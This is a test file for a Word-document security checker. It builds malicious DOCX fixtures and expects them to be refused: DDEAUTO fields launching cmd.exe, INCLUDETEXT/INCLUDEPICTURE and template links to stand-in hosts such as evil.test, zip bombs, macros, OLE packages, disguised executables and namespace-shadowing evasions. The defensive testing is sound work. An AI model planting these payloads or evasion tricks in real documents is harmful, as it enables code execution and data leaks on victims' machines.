import { describe, expect, it } from 'vitest';
import { withFileAsync } from '../test/support/open-bytes.js';
import { doc, docx } from '@verdalia/test-files/fixtures';
import {
  docWith,
  docxWith,
  oleObjectFile,
  readZip,
  relationship,
  rels,
  writeZip,
} from '@verdalia/test-files/hostile-files';
import { checkEmbeddedCompound } from './doc-check.js';
import { checkDocx } from './docx-check.js';

const check = (bytes: Buffer) =>
  withFileAsync(bytes, (_file, path) => checkDocx(path, checkEmbeddedCompound));
const type = (short: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${short}`;

describe('checkDocx', () => {
  const field = (instructions: string) =>
    `<w:p><w:fldSimple w:instr="${instructions}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
  const story = (name: string, body: string) => ({
    name,
    data: Buffer.from(
      `<?xml version="1.0" encoding="UTF-8"?><w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:ftr>`,
    ),
  });

  it('accepts a minimal Word document', async () => {
    await expect(check(docx())).resolves.toBeUndefined();
  });

  it('refuses a part whose local header lies past the end of the file, as one that does not read', async () => {
    const bytes = docx();
    // The last central directory record: its part's local header's offset, moved to a few
    // bytes before the end, where no 30-byte header fits.
    const record = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bytes.writeUInt32LE(bytes.length - 4, record + 42);
    await expect(check(bytes)).rejects.toThrow(/local header does not read/);
  });

  it('stops reading when its signal is aborted: the reason, not a refusal', async () => {
    const reason = new Error('stopped from outside');
    await expect(
      withFileAsync(docx(), (_file, path) =>
        checkDocx(path, checkEmbeddedCompound, AbortSignal.abort(reason)),
      ),
    ).rejects.toBe(reason);
  });

  it('reads every copy of a part stored twice, and refuses a macro content type', async () => {
    const entries = await readZip(docx());
    await expect(check(writeZip([...entries, ...entries.slice(0, 1)]))).resolves.toBeUndefined();
    const footer = story('word/footer1.xml', field('DDEAUTO cmd.exe x'));
    const twice = writeZip([...entries, story('word/footer1.xml', field('PAGE')), footer]);
    await expect(check(twice)).rejects.toThrow(/DDEAUTO/);
    const types = entries.find((entry) => entry.name === '[Content_Types].xml');
    const macro = types?.data
      ?.toString('utf8')
      .replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml');
    await expect(
      check(
        await docxWith(docx(), [{ name: '[Content_Types].xml', data: Buffer.from(macro ?? '') }]),
      ),
    ).rejects.toThrow(/macro/);
  });

  it('refuses a part whose ratio no document has, read from the directory alone', async () => {
    const inflated = Buffer.alloc(8 * 1024 * 1024, 0x20);
    await expect(
      check(await docxWith(docx(), [{ name: 'word/media/big.bin', data: inflated }])),
    ).rejects.toThrow(/compression ratio/);
  });

  it('refuses a part of any size past 100 KiB with a bomb’s ratio, and many small ones that inflate together past what documents do', async () => {
    const spaces = (size: number) => Buffer.alloc(size, 0x20);
    await expect(
      check(await docxWith(docx(), [{ name: 'word/media/small.bin', data: spaces(512 * 1024) }])),
    ).rejects.toThrow(/compression ratio/);
    // 400 parts of 90 KiB: each under the part's grace, together 35 MiB from about 100 KB.
    const many = Array.from({ length: 400 }, (_, index) => ({
      name: `word/media/pad${index}.bin`,
      data: spaces(90 * 1024),
    }));
    await expect(check(await docxWith(docx(), many))).rejects.toThrow(/inflate \d+ times/);
    // The same parts, fewer: a package under its grace is read whatever its ratio.
    await expect(check(await docxWith(docx(), many.slice(0, 20)))).resolves.toBeUndefined();
  });

  it('reads the fields of every XML part, not only the document: a DDE field in a footer is refused', async () => {
    await expect(
      check(await docxWith(docx(), [story('word/footer1.xml', field('PAGE'))])),
    ).resolves.toBeUndefined();
    await expect(
      check(await docxWith(docx(), [story('word/footer1.xml', field('DDEAUTO cmd.exe x'))])),
    ).rejects.toThrow(/DDEAUTO/);
  });

  it('reads a part by its content type, whatever its name, and leaves other parts unread', async () => {
    const entries = await readZip(docx());
    const types = entries.find((entry) => entry.name === '[Content_Types].xml');
    const renamed = (types?.data?.toString('utf8') ?? '').replace(
      '</Types>',
      '<Override PartName="/word/story.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/><Default Extension="png" ContentType="image/png"/></Types>',
    );
    const hidden = await docxWith(docx(), [
      { name: '[Content_Types].xml', data: Buffer.from(renamed) },
      story('word/story.bin', field(String.raw`INCLUDETEXT &quot;\\evil.example\s\a&quot;`)),
    ]);
    await expect(check(hidden)).rejects.toThrow(/INCLUDETEXT/);
    // An image's bytes may look like anything, markup included: it is not read as XML.
    const image = {
      name: 'word/media/image1.png',
      data: Buffer.from('<!DOCTYPE <w:instrText>DDEAUTO'),
    };
    await expect(
      check(
        await docxWith(docx(), [
          { name: '[Content_Types].xml', data: Buffer.from(renamed) },
          image,
        ]),
      ),
    ).resolves.toBeUndefined();
  });

  it('reads a part in the encoding the XML specification finds: UTF-16 without a mark, a declared legacy one', async () => {
    const text = story(
      'word/footer1.xml',
      field(String.raw`INCLUDETEXT &quot;https://evil.example/t&quot;`),
    ).data.toString('utf8');
    const utf16le = Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le');
    const utf16be = Buffer.from(utf16le).swap16();
    for (const data of [utf16le, utf16be]) {
      await expect(
        check(await docxWith(docx(), [{ name: 'word/footer1.xml', data }])),
      ).rejects.toThrow(/INCLUDETEXT/);
    }
    const latin = Buffer.from(
      text.replace('UTF-8', 'windows-1252').replace('1</w:t>', 'ñandú</w:t>'),
      'latin1',
    );
    await expect(
      check(await docxWith(docx(), [{ name: 'word/footer1.xml', data: latin }])),
    ).rejects.toThrow(/INCLUDETEXT/);
  });

  it('refuses a part in an encoding it cannot read, with a DTD, or not well-formed', async () => {
    const part = (data: string) =>
      docxWith(docx(), [{ name: 'word/footer1.xml', data: Buffer.from(data) }]);
    await expect(
      check(await part('<?xml version="1.0" encoding="UTF-7"?><w:ftr/>')),
    ).rejects.toThrow(/utf-7/i);
    await expect(check(await part('<!DOCTYPE x [<!ENTITY e "DDE">]><w:ftr/>'))).rejects.toThrow(
      /document type/,
    );
    await expect(check(await part('<w:ftr><w:p></w:ftr>'))).rejects.toThrow(/well-formed/);
    // Without a declaration no entity but XML's five exists: an external one is never fetched.
    await expect(
      check(
        await part(
          '<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&xxe;</w:ftr>',
        ),
      ),
    ).rejects.toThrow(/well-formed/);
  });

  it('refuses an executable or an archive stored as a picture', async () => {
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
    await expect(
      check(await docxWith(docx(), [{ name: 'word/media/image9.png', data: exe }])),
    ).rejects.toThrow(/Windows executable/);
  });
});

describe('checkDocx on embedded objects', () => {
  const compObj = (userType: string, progId: string) => {
    const text = (value: string) => {
      const bytes = Buffer.from(`${value}\0`, 'latin1');
      const length = Buffer.alloc(4);
      length.writeUInt32LE(bytes.length);
      return Buffer.concat([length, bytes]);
    };
    return Buffer.concat([Buffer.alloc(28), text(userType), text(''), text(progId)]);
  };
  const embedding = (name: string, data: Buffer) =>
    docxWith(docx(), [{ name: `word/embeddings/${name}`, data }]);

  it('judges an embedded compound file as an object of the document: a Word document passes, a package or macros do not', async () => {
    await expect(check(await embedding('Documento1.doc', doc()))).resolves.toBeUndefined();
    const withMacros = docWith(doc(), { '/Macros/VBA/dir': Buffer.alloc(600, 1) });
    await expect(check(await embedding('Documento2.doc', withMacros))).rejects.toThrow(/macro/);
    const packaged = docWith(doc(), {
      '/\u0001CompObj': compObj('Packager Shell Object', 'Package'),
      '/\u0001Ole10Native': Buffer.alloc(300, 7),
    });
    await expect(check(await embedding('oleObject1.bin', packaged))).rejects.toThrow(/OLE package/);
  });

  it('judges an embedded object by its root’s class ID, not its label: Equation Editor 2.0 called a chart', async () => {
    const chart = { '\u0001CompObj': compObj('Microsoft Graph Chart', 'MSGraph.Chart.8') };
    // {00021700-…}, Equation Editor 2.0; {00020803-…}, the Microsoft Graph chart.
    const equation = oleObjectFile('0017020000000000c000000000000046', {
      ...chart,
      'Equation Native': Buffer.alloc(64, 1),
    });
    await expect(check(await embedding('oleObject1.bin', equation))).rejects.toThrow(/Equation/);
    const graph = oleObjectFile('0308020000000000c000000000000046', chart);
    await expect(check(await embedding('oleObject1.bin', graph))).resolves.toBeUndefined();
  });

  it('judges an embedded Office package by the same rules, and refuses any other embedded file', async () => {
    const inner = await docxWith(docx(), [
      { name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) },
    ]);
    await expect(check(await embedding('Documento.docx', inner))).rejects.toThrow(/VBA macro/);
    await expect(check(await embedding('Documento.docx', docx()))).resolves.toBeUndefined();
    await expect(
      check(await embedding('factura.vbs', Buffer.from('CreateObject("WScript.Shell")'))),
    ).rejects.toThrow(/embedded file that is no Office object/);
  });
});

describe('checkDocx reads XML by namespace, as Office does', () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const mc = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
  const body = (xml: string, extra = '') =>
    Buffer.from(
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="${w}" xmlns:r="${r}" xmlns:mc="${mc}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:example:ignorable" mc:Ignorable="x" ${extra}><w:body>${xml}</w:body></w:document>`,
    );
  const withDocument = (xml: string, ...parts: { name: string; data: Buffer }[]) =>
    docxWith(docx(), [{ name: 'word/document.xml', data: body(xml) }, ...parts]);
  const documentRels = (...relationships: string[]) => ({
    name: 'word/_rels/document.xml.rels',
    data: rels(...relationships),
  });

  it('reads w:instr, not an attribute of the same local name in an ignorable namespace', async () => {
    // A reader keyed by local name keeps the last one (PAGE); Word and LibreOffice read w:instr.
    const shadowed = (instructions: string) =>
      `<w:p><w:fldSimple w:instr="${instructions}" x:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
    await expect(
      check(await withDocument(shadowed('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'))),
    ).rejects.toThrow(/DDEAUTO/);
    await expect(
      check(await withDocument(shadowed('INCLUDEPICTURE &quot;http://evil.test/p.png&quot; \\d'))),
    ).rejects.toThrow(/INCLUDEPICTURE/);
    // And the other way round: an ignorable x:instr that says DDEAUTO is nothing to Word.
    await expect(
      check(
        await withDocument(
          '<w:p><w:fldSimple x:instr="DDEAUTO cmd" w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
        ),
      ),
    ).resolves.toBeUndefined();
  });

  it('reads elements by namespace: a prefix bound to WordprocessingML is WordprocessingML', async () => {
    const other = `<q:p xmlns:q="${w}"><q:fldSimple q:instr="DDEAUTO cmd"/></q:p>`;
    await expect(check(await withDocument(other))).rejects.toThrow(/DDEAUTO/);
    // ISO/IEC 29500 Strict names the same elements in its own namespace.
    const strict = `<s:p xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"><s:fldSimple s:instr="DDEAUTO cmd"/></s:p>`;
    await expect(check(await withDocument(strict))).rejects.toThrow(/DDEAUTO/);
    await expect(check(await withDocument('<w:p><u:fldSimple/></w:p>'))).rejects.toThrow(
      /well-formed/,
    );
  });

  it('reads TargetMode without a namespace, not x:TargetMode, in a relationships part', async () => {
    const shadowed = Buffer.from(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:x="urn:example:x"><Relationship Id="rId1" Type="${type('attachedTemplate')}" Target="https://evil.test/t.dotm" TargetMode="External" x:TargetMode="Internal"/></Relationships>`,
    );
    await expect(
      check(await docxWith(docx(), [{ name: 'word/_rels/settings.xml.rels', data: shadowed }])),
    ).rejects.toThrow(/attachedTemplate/);
  });

  it('follows every branch of mc:AlternateContent: a field whose target only one branch holds', async () => {
    const split = [
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
      '<w:r><w:instrText>INCLUDEPICTURE </w:instrText></w:r>',
      '<mc:AlternateContent><mc:Choice Requires="x"><w:r><w:instrText>&quot;logo.png&quot;</w:instrText></w:r></mc:Choice>',
      '<mc:Fallback><w:r><w:instrText>&quot;\\\\evil.test\\share\\p.png&quot;</w:instrText></w:r></mc:Fallback></mc:AlternateContent>',
      '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ].join('');
    await expect(check(await withDocument(split))).rejects.toThrow(/INCLUDEPICTURE/);
    const same = split.replace('\\\\evil.test\\share\\p.png', 'logo.png');
    await expect(check(await withDocument(same))).resolves.toBeUndefined();
  });

  it('refuses an external relationship typed as a link when the document loads it on opening', async () => {
    const link = relationship('rId7', 'hyperlink', 'https://evil.test/p.png', true);
    // v:imagedata draws the picture when the page is shown: fetched on opening.
    const picture =
      '<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rId7" o:title=""/></v:shape></w:pict></w:r></w:p>';
    await expect(check(await withDocument(picture, documentRels(link)))).rejects.toThrow(/rId7/);
    // A link the reader follows only when clicked stays.
    const clicked = '<w:p><w:hyperlink r:id="rId7"><w:r><w:t>sitio</w:t></w:r></w:hyperlink></w:p>';
    await expect(check(await withDocument(clicked, documentRels(link)))).resolves.toBeUndefined();
    const settings = {
      name: 'word/settings.xml',
      data: Buffer.from(
        `<w:settings xmlns:w="${w}" xmlns:r="${r}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
      ),
    };
    const template = (target: string, type = 'hyperlink') => ({
      name: 'word/_rels/settings.xml.rels',
      data: rels(relationship('rId1', type, target, true)),
    });
    await expect(
      check(await docxWith(docx(), [settings, template('https://evil.test/t.dotm')])),
    ).rejects.toThrow(/attachedTemplate/);
    // A link to a share is refused as a link already; a template on the author's disk, as
    // Word writes it, stays.
    await expect(
      check(await docxWith(docx(), [settings, template('\\\\evil.test\\share\\t.dotm')])),
    ).rejects.toThrow(/reaches/);
    await expect(
      check(
        await docxWith(docx(), [
          settings,
          template('file:///C:/Plantillas/Informe.dotx', 'attachedTemplate'),
        ]),
      ),
    ).resolves.toBeUndefined();
  });

  it('refuses a DATABASE field whose data is on a share or behind a connection string', async () => {
    const field = (instructions: string) =>
      `<w:p><w:fldSimple w:instr="${instructions}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`;
    await expect(
      check(
        await withDocument(
          field(
            'DATABASE \\d &quot;\\\\\\\\evil.test\\\\datos\\\\clientes.mdb&quot; \\s &quot;SELECT * FROM t&quot;',
          ),
        ),
      ),
    ).rejects.toThrow(/DATABASE/);
    await expect(
      check(
        await withDocument(
          field(
            'DATABASE \\d &quot;clientes.mdb&quot; \\c &quot;Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\\\\\evil.test\\\\d\\\\c.mdb&quot;',
          ),
        ),
      ),
    ).rejects.toThrow(/DATABASE/);
    await expect(
      check(
        await withDocument(
          field(
            'DATABASE \\d &quot;C:\\\\datos\\\\clientes.mdb&quot; \\s &quot;SELECT * FROM t&quot;',
          ),
        ),
      ),
    ).resolves.toBeUndefined();
  });

  it('refuses a task-pane add-in from a catalog other than the Office Store', async () => {
    const extension = (store: string, storeType: string) => ({
      name: 'word/webextensions/webextension1.xml',
      data: Buffer.from(
        `<?xml version="1.0" encoding="UTF-8"?><we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="wa104380862" version="1.0.0.0" store="${store}" storeType="${storeType}"/><we:alternateReferences/><we:properties/><we:bindings/><we:snapshot xmlns:r="${r}"/></we:webextension>`,
      ),
    });
    const taskpanes = {
      name: 'word/webextensions/taskpanes.xml',
      data: Buffer.from(
        `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1"><wetp:webextensionref xmlns:r="${r}" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`,
      ),
    };
    await expect(
      check(await docxWith(docx(), [taskpanes, extension('\\\\evil.test\\catalog', 'FileSystem')])),
    ).rejects.toThrow(/add-in/);
    await expect(
      check(await docxWith(docx(), [taskpanes, extension('en-US', 'OMEX')])),
    ).resolves.toBeUndefined();
  });
});
